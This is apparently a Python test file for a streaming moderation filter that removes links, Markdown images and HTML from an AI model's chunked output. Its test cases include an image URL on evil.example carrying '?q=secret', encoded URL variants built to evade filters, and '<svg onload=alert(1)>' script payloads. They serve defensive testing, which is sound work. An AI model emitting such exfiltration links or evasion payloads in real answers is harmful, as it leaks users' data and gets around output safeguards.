"""Links and Markdown pictures do not get out of a streamed answer, however it is cut."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from contract.response import Delta, TokenLogprob
from gateway.moderation.stream import StreamScreen
from gateway.moderation.text import TextPolicy

POLICY = TextPolicy.load()


def through(pieces: list[str]) -> str:
    screen = StreamScreen(POLICY)
    out = [screen.push(Delta(piece)) for piece in pieces] + [screen.flush()]
    assert not screen.blocked
    return "".join(piece.text for piece in out if piece)


CASES = [
    ("A bag. ![x](http://evil.example/a.png?q=secret) Nice.", "A bag.  Nice."),
    ("See [the brand](https://evil.example/x) for it.", "See the brand for it."),
    ("It is at https://evil.example/path?a=1 now.", "It is at  now."),
    ("看 www.evil.example/a，很好看。", "看 ，很好看。"),
    ("<img src=http://evil.example/a> red", " red"),
    ("[![x](http://a.example/b)](http://c.example/d) red", " red"),
    ('{"a": "see https://evil.example/x", "b": [1, 2]}', '{"a": "see ", "b": [1, 2]}'),
    ("![x][1]\n\n[1]: //evil.example/a.png\nRed.", "![x][1]\n\n[1]:\nRed."),
    ("[x][1]\n\n> [1]:\n  <//evil.example> 'x'\nRed.", "[x][1]\n\n> [1]: 'x'\nRed."),
    ("[1]: /\\evil.example/a red", "[1]: red"),
    ("[1]: &#47;&sol;evil.example/a red", "[1]: red"),
    ("[1]: https:evil.example red", "[1]: red"),
    ("See //evil.example/a or ftp://evil.example/b.", "See  or ftp:"),
    ('{"a": "https:\\/\\/evil.example\\/a"}', '{"a": "\\/a"}'),
    ("<svg onload=alert(1)> red", " red"),
    ("<svg\nonload=alert(1)> <p class=x\nonclick='a()'>red", " red"),
    ("<object data=a></object><style>", ""),
    ("<svg " + "red " * 80 + "onload=a()> ok", "svg " + "red " * 80 + "onload=a()> ok"),
    (
        "H&M <M>, <b>5</b> < 6 and//or 3 // 4, [M]: large/medium, [Brand]: H&M [1]: 5:4",
        "H&M <M>, <b>5</b> < 6 and//or 3 // 4, [M]: large/medium, [Brand]: H&M [1]: 5:4",
    ),
    (
        "Size [M] (not L)! It is < 5 kg and won't www.",
        "Size [M] (not L)! It is < 5 kg and won't www.",
    ),
]


@settings(max_examples=150)
@example(CASES[3], [4, 7])  # a piece that ends at a dot within the address
@given(st.sampled_from(CASES), st.lists(st.integers(1, 7), max_size=40))
def test_links_are_taken_out(case: tuple[str, str], sizes: list[int]) -> None:
    text, wanted = case
    pieces = []
    for size in sizes:
        pieces.append(text[:size])
        text = text[size:]
    assert through([*pieces, text]) == wanted


def test_log_probabilities_do_not_spell_what_was_taken_out() -> None:
    screen = StreamScreen(POLICY)
    token = TokenLogprob(b"http://evil.example/x", -1.0)
    sent = [screen.push(Delta("http://evil.example/x", (token,))), screen.push(Delta(" ok."))]
    sent.append(screen.flush())
    assert all(piece.logprobs == () for piece in sent if piece)


@pytest.mark.parametrize("text", ["x" * 3000, "[" * 3000, "http" * 800, "![a](" * 500])
def test_what_looks_like_links_does_not_take_long_nor_stay(text: str) -> None:
    assert len(through([text[at : at + 50] for at in range(0, len(text), 50)])) > 0
